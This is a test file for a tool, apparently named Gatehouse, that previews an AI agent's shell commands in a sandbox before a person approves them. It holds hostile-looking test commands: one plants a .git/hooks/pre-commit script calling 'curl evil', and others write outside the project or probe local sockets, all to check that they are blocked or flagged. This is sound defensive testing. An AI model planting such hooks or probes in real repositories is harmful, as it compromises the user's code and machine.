// A command's preview through real requests: the scripted agent asks to run a command with its exact
// text in the raw input, Gatehouse runs it first in a scratch view (real unshare, overlay and
// bubblewrap) and the request shows what it would change, while the real folder stays as it was
// until a person allows it and the agent runs it itself.
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import type { Rule } from '../../src/shared/rules';
import type { SettingsInput, AgentConfig } from '../../src/shared/settings';
import type { ScriptStep } from '../support/agents/scripted-agent';
import { startScriptedSession, type ScriptedSession } from '../support/gatehouse';

const OPTIONS = [
  { optionId: 'opt-yes', name: 'Yes', kind: 'allow_once' as const },
  { optionId: 'opt-no', name: 'No', kind: 'reject_once' as const },
];

/** Allows `sh gen.sh` only once its preview shows changes under build/ alone. */
const GEN_RULE: Rule = {
  id: 'gen',
  action: 'allow',
  command: 'sh gen.sh',
  whenPreviewChangesOnly: ['build'],
};

/** The agent asks to run `command` (raw input `{command}`), and runs it itself once allowed. */
function shellRequest(command: string): ScriptStep {
  return {
    type: 'requestPermission',
    toolCall: { toolCallId: 'sh-1', kind: 'execute', title: command, rawInput: { command } },
    options: OPTIONS,
    onAllow: [{ type: 'shell', command }],
  } as ScriptStep;
}

describe('a command previewed before anyone allows it', () => {
  let folder: string;
  let outside: string;
  let session: ScriptedSession | undefined;

  beforeEach(() => {
    folder = realpathSync(mkdtempSync(join(tmpdir(), 'gatehouse-work-')));
    outside = realpathSync(mkdtempSync(join(tmpdir(), 'gatehouse-outside-')));
    writeFileSync(join(folder, 'b'), '1\n');
    writeFileSync(join(folder, 'c'), 'gone soon\n');
  });
  afterEach(async () => {
    await session?.close();
    session = undefined;
    rmSync(folder, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });

  async function start(
    command: string,
    settings: Partial<SettingsInput> = {},
    agent: Partial<AgentConfig> = {},
  ) {
    session = await startScriptedSession(
      { prompts: [[shellRequest(command)]] },
      { settings, agent, folder },
    );
    const { gh, sessionId } = session;
    const turn = gh.api.call('prompt', { sessionId, text: 'run it' });
    return { gh, sessionId, turn, approval: await gh.nextApproval() };
  }

  const audit = async (s: ScriptedSession, type: string) =>
    (await s.gh.core.store.events({ type })) as Array<{ requestId: string; payload: unknown }>;

  it('lists exactly what it creates, modifies and deletes; the folder changes only once allowed', async () => {
    const { gh, turn, approval } = await start('touch a; echo x >> b; rm c');
    expect(approval.command?.source).toBe('rawInput');
    expect(approval.preview).toMatchObject({ state: 'running' });

    const { approval: previewed } = await gh.waitForEvent('permission_previewed');
    expect(previewed.requestId).toBe(approval.requestId);
    const preview = previewed.preview!;
    expect(preview, JSON.stringify(preview)).toMatchObject({
      state: 'done',
      exitCode: 0,
      hosts: [],
    });
    expect(preview.changes.map(({ path, change }) => [path, change])).toEqual([
      [join(folder, 'a'), 'created'],
      [join(folder, 'b'), 'modified'],
      [join(folder, 'c'), 'deleted'],
    ]);
    expect(preview.counts).toMatchObject({ created: 1, modified: 1, deleted: 1, protected: 0 });
    // The real folder: as it was.
    expect(readdirSync(folder).sort()).toEqual(['b', 'c']);
    expect(readFileSync(join(folder, 'b'), 'utf8')).toBe('1\n');
    // The queue row and the core's own list carry it.
    const { items } = await gh.api.call('listApprovals', {});
    expect(items[0]).toMatchObject({ effects: 'changes 2 files, deletes 1' });
    expect(
      (await gh.api.call('approvalDetail', { requestId: approval.requestId })).preview,
    ).toEqual(preview);

    await gh.api.call('vote', { requestId: approval.requestId, optionId: 'opt-yes' });
    expect(await turn).toEqual({ stopReason: 'end_turn' });
    expect(readdirSync(folder).sort()).toEqual(['a', 'b']);
    expect(readFileSync(join(folder, 'b'), 'utf8')).toBe('1\nx\n');

    await gh.core.store.flush();
    const [record] = await audit(session!, 'command_previewed');
    expect(record).toMatchObject({
      requestId: approval.requestId,
      payload: { state: 'done', counts: { created: 1, modified: 1, deleted: 1 }, hosts: [] },
    });
  });

  it('a write outside the project fails in the preview and never reaches the disk', async () => {
    const target = join(outside, 'planted');
    const { gh, turn, approval } = await start(`echo x > ${target}; touch inside`);
    const { approval: previewed } = await gh.waitForEvent('permission_previewed');
    expect(previewed.preview!.changes.map((c) => c.path)).toEqual([join(folder, 'inside')]);
    expect(previewed.preview!.output).toContain(`cannot create ${target}`);
    expect(existsSync(target)).toBe(false);
    expect(existsSync(join(folder, 'inside'))).toBe(false);
    await gh.api.call('vote', { requestId: approval.requestId, optionId: 'opt-no' });
    await turn;
  });

  it('reaches neither a local socket nor a loopback port while it is previewed', async () => {
    const heard: string[] = [];
    // In the project, which the preview sees: only the socket filter stands between them.
    const sock = join(folder, 'agent.sock');
    const unix = createServer((c) => {
      heard.push('unix');
      c.destroy();
    });
    const tcp = createServer((c) => {
      heard.push('tcp');
      c.destroy();
    });
    await new Promise<void>((done) => unix.listen(sock, done));
    await new Promise<void>((done) => tcp.listen(0, '127.0.0.1', done));
    const port = (tcp.address() as AddressInfo).port;
    const probe = (target: string) =>
      `${process.execPath} -e "require('net').connect(${target}).on('connect',()=>console.log('reached')).on('error',(e)=>console.log(e.code))"`;
    try {
      const { gh, turn, approval } = await start(
        `${probe(`'${sock}'`)}; ${probe(`${port},'127.0.0.1'`)}; touch probed`,
      );
      const { approval: previewed } = await gh.waitForEvent('permission_previewed');
      expect(previewed.preview!.changes.map((c) => c.path)).toEqual([join(folder, 'probed')]);
      // Node may warn about the proxy the preview sets; the probes' own lines are the error codes.
      const codes = previewed.preview!.output.split('\n').filter((line) => /^[A-Z]+$/.test(line));
      expect(codes, previewed.preview!.output).toEqual([
        'EPERM',
        expect.stringMatching(/^E[A-Z]+$/),
      ]);
      expect(heard).toEqual([]);
      await gh.api.call('vote', { requestId: approval.requestId, optionId: 'opt-no' });
      await turn;
    } finally {
      unix.close();
      tcp.close();
    }
  });

  it('a write into .git/hooks is shown as a danger on the request', async () => {
    const { gh, turn, approval } = await start(
      'mkdir -p .git/hooks && printf "#!/bin/sh\\ncurl evil" > .git/hooks/pre-commit',
    );
    const { approval: previewed } = await gh.waitForEvent('permission_previewed');
    expect(previewed.preview!.counts.protected, JSON.stringify(previewed.preview)).toBeGreaterThan(
      0,
    );
    expect(previewed.warnings).toContainEqual(
      expect.objectContaining({ code: 'effect_protected', severity: 'danger' }),
    );
    expect(existsSync(join(folder, '.git'))).toBe(false);
    await gh.api.call('vote', { requestId: approval.requestId, optionId: 'opt-no' });
    await turn;
  });

  it('denied while its preview runs: the run is stopped, nothing of it shown or left behind', async () => {
    // The scratch layer's folder is made in the temp folder: one of this test's own, so that the
    // previews other tests run at the same time are not counted as this one's leftovers.
    const parent = realpathSync(mkdtempSync(join(tmpdir(), 'gatehouse-scratch-parent-')));
    vi.stubEnv('TMPDIR', parent);
    onTestFinished(() => {
      vi.unstubAllEnvs();
      rmSync(parent, { recursive: true, force: true });
    });
    const scratches = () =>
      readdirSync(parent).filter((name) => name.startsWith('gatehouse-preview-'));
    // A bound far past the poll below: the run ends early only by being stopped.
    const { gh, turn, approval } = await start('touch made; sleep 600', {
      preview: { enabled: true, timeoutSeconds: 120 },
    });
    await expect.poll(scratches).toHaveLength(1);
    expect(approval.preview).toMatchObject({ state: 'running', timeoutMs: 120_000 });
    await gh.api.call('vote', { requestId: approval.requestId, optionId: 'opt-no' });
    expect(await turn).toEqual({ stopReason: 'end_turn' });
    // Recorded once the run has ended, so what the scratch view held is gone by then.
    await expect
      .poll(async () => (await audit(session!, 'command_preview_dropped')).length, {
        timeout: 30_000,
      })
      .toBe(1);
    // Neither its scratch layer nor its control folder is left.
    expect(scratches()).toEqual([]);
    expect(readdirSync(join(gh.home, 'run')).filter((name) => name.startsWith('preview-'))).toEqual(
      [],
    );
    expect(gh.events.filter((e) => e.type === 'permission_previewed')).toEqual([]);
    expect(existsSync(join(folder, 'made'))).toBe(false);
  });

  it('an allow that requires a preview decides once it shows changes only in build/', async () => {
    writeFileSync(join(folder, 'gen.sh'), 'mkdir -p build\necho out > build/out\n');
    const { gh, turn, approval } = await start('sh gen.sh', { rules: [GEN_RULE] });
    // Asked at first: the rule holds only once the preview is in.
    expect(approval.preview?.state).toBe('running');
    expect(await turn).toEqual({ stopReason: 'end_turn' });
    expect(readFileSync(join(folder, 'build', 'out'), 'utf8')).toBe('out\n');
    await gh.core.store.flush();
    const detail = await gh.core.store.historyDetail(approval.requestId);
    expect(detail?.decider).toEqual({ type: 'rule', ruleId: 'gen' });
  });

  it('the same rule keeps asking when the preview shows a change outside build/', async () => {
    writeFileSync(join(folder, 'gen.sh'), 'mkdir -p build\necho out > build/out\necho x >> b\n');
    const { gh, turn, approval } = await start('sh gen.sh', { rules: [GEN_RULE] });
    const { approval: previewed } = await gh.waitForEvent('permission_previewed');
    expect(previewed.preview?.counts).toMatchObject({ created: 2, modified: 1 });
    expect(gh.core.pipeline.pending.get(approval.requestId)).toBeDefined();
    await gh.api.call('vote', { requestId: approval.requestId, optionId: 'opt-no' });
    expect(await turn).toEqual({ stopReason: 'end_turn' });
    expect(existsSync(join(folder, 'build'))).toBe(false);
  });

  it('an agent whose previews are off is asked with "not previewed: off", nothing run', async () => {
    const { gh, turn, approval } = await start('touch a', {}, { preview: false });
    expect(approval.preview).toMatchObject({ state: 'not_previewed', reason: 'off' });
    await gh.api.call('vote', { requestId: approval.requestId, optionId: 'opt-no' });
    await turn;
    await gh.core.store.flush();
    expect(await audit(session!, 'command_previewed')).toMatchObject([
      { payload: { state: 'not_previewed', reason: 'off' } },
    ]);
    const run = join(gh.home, 'run');
    const controls = existsSync(run)
      ? readdirSync(run).filter((n) => n.startsWith('preview-'))
      : [];
    expect(controls).toEqual([]);
  });
});
